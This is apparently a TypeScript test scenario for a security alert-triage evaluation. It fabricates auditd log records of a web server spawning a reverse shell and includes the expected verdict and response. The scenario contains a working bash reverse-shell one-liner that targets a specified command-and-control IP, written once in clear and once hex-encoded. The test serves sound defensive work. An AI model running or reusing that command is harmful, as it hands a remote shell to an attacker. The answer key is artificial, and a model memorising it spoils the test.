// Raw auditd records; the command is once in clear and once in hex.
import { alert, connected, ran } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const auditdReverseShell: TellSituation = (setting) => {
  const server = setting.machine('srv-web-01')
  const at = setting.ago({ minutes: 26 })
  const c2 = '91.240.118.29'
  const shell = `bash -i >& /dev/tcp/${c2}/4443 0>&1`
  const stamp = `${(at / 1000).toFixed(3)}:88121`

  return {
    id: 'auditd-reverse-shell',
    group: 'formats',
    title: 'A reverse shell in the audit log',
    alerts: [
      alert(
        setting,
        at,
        'siem',
        'execve by web server user',
        [
          `node=${server.host} type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 ppid=1911 pid=30177 auid=4294967295 uid=33 gid=33 euid=33 comm="bash" exe="/usr/bin/bash" key="webexec"`,
          `node=${server.host} type=EXECVE msg=audit(${stamp}): argc=3 a0="bash" a1="-c" a2=${Buffer.from(shell).toString('hex').toUpperCase()}`,
          `node=${server.host} type=CWD msg=audit(${stamp}): cwd="/var/www/shop/uploads"`,
          `node=${server.host} type=PROCTITLE msg=audit(${stamp}): proctitle=${Buffer.from(`bash\0-c\0${shell}`).toString('hex').toUpperCase()}`,
          `node=${server.host} type=SOCKADDR msg=audit(${stamp}): saddr={ saddr_fam=inet laddr=${c2} lport=4443 }`,
        ].join('\n'),
      ),
    ],
    facts: {
      intelligence: [
        setting.risk('ip', c2, 90, [['Current C&C Server', 4, 'Collects reverse shells of web servers, seen today.']]),
      ],
      telemetry: [
        ran(server, at, 'bash', `bash -c ${shell}`, { AccountName: 'www-data', InitiatingProcessFileName: 'php-fpm' }),
        connected(server, at + 700, c2, {
          RemotePort: 4443,
          InitiatingProcessFileName: 'bash',
          InitiatingProcessAccountName: 'www-data',
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [
        { action: 'isolate-machine', target: server.host },
        { action: 'block-indicator', target: c2 },
      ],
    },
    because:
      'The web server started a shell towards an address that collects such shells today, and the endpoint platform saw the connection succeed.',
  }
}
